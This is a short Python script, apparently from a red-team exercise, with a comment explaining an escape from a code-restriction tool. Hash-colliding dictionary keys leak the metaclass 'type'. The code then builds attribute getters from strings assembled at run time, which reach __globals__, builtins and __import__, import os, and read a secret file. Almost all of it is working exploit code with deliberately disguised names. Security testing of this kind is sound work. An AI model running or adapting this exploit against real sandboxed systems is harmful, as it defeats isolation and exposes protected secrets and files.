# family: class machinery (red-team round 14: type(x) reaching the tool's code)
# Chain: `peers = {Spy(...): Marker}` is bound as Kind.NAMES (only the dict's VALUES are looked at), so
# `type(c) in peers` passes peers._compare_peer, which then only checks that Marker is a class.  But
# `x in dict` hashes x and calls the stored KEY's __eq__ on a hash match: Spy keys cover hash(type), so
# Spy.__eq__ receives the metaclass `type`.  Then type(attrgetter(..)) builds run-time-named getters:
# entry.__globals__ -> builtins -> __import__("os"), open(secret).
import operator


class Marker:
    pass


class Spy:
    def __init__(self, h, box):
        self.h = h
        self.box = box

    def __hash__(self):
        return self.h

    def __eq__(self, other):
        self.box.append(other)
        return False


def catch(c, box):
    base = hash(int)
    for k in range(-70000, 70000):
        spy = Spy(base + k, box)
        peers = {spy: Marker}
        if type(c) in peers:
            return True
    return False


def entry():
    box = []
    catch(int, box)
    meta = box[0]
    make = meta(operator.attrgetter("real"))
    u = "_"
    g = make(u + u + "globals" + u + u)(entry)
    b = g[u + u + "builtins" + u + u]
    imp = b[u + u + "import" + u + u] if isinstance(b, dict) else make(u + u + "import" + u + u)(b)
    osmod = imp("os")
    print("got:", meta, osmod)
    print("USER/HOME env:", osmod.environ.get("HOME"))
    print("secret:", osmod.read(osmod.open("/tmp/r14/work/secret.txt", 0), 100))


entry()
